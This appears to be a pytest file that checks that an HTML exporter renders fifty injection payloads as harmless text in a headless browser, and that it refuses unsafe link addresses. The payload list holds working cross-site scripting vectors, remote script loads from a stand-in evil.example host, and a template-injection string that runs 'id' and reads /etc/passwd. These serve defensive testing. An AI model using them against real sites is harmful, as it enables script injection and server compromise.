"""H25: fifty ways to smuggle a script into a page. All appear as text: no dialog, no request, no CSP report."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from stemma.export.html import render_html
from stemma.export.visible import visible
from stemma.types.account import Account

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.gif>",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "` onload=`alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url(https://evil.example/x)\">",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% include '/etc/passwd' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "\u2028</mark></p><script>alert(1)</script>\u202e",
)  # fmt: skip

LISTEN = "window.reports = []; addEventListener('securitypolicyviolation', e => window.reports.push(e.blockedURI));"


def test_there_are_fifty() -> None:
    assert len(set(PAYLOADS)) == 50


@pytest.fixture
def page(chromium: Browser) -> Page:
    return chromium.new_context().new_page()


@pytest.mark.browser
def test_payloads_appear_as_text(page: Page, tmp_path: Path, laden: Callable[[str], Account]) -> None:
    alarms: list[str] = []
    page.add_init_script(LISTEN)
    page.on("dialog", lambda dialog: (alarms.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda error: alarms.append(f"error {error}"))
    file = tmp_path / "account.html"
    page.on("request", lambda r: alarms.append(f"request {r.url}") if not r.url.startswith(file.as_uri()) else None)
    for payload in PAYLOADS:
        file.write_text(render_html(laden(payload)), encoding="utf-8")
        page.goto(file.as_uri())
        for key in ("j", "j", "k", "Enter", "/"):
            page.keyboard.press(key)
        page.locator("#search").fill(payload)
        page.locator("#search").press("Escape")
        page.locator(".cite").first.hover()
        shown = page.locator("body").inner_text()
        assert visible(payload).split()[0] in shown, payload
        assert page.evaluate("window.reports") == [], payload
        assert page.locator("body > script").count() == 2
        assert page.locator("img, iframe, object, embed, form[action], base, link, video, audio").count() == 0
        assert alarms == [], payload


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "//evil.example", "vbscript:x", "HTTPS:x"]
)
def test_unsafe_address_is_no_link(harbour_with: Callable[..., Account], address: str) -> None:
    assert f'href="{address}"' not in render_html(harbour_with(url=address))


def test_safe_address_is_a_link_that_tells_nothing(harbour_with: Callable[..., Account]) -> None:
    page = render_html(harbour_with(url="https://quaywire.example/1"))
    assert 'href="https://quaywire.example/1" rel="noreferrer noopener"' in page
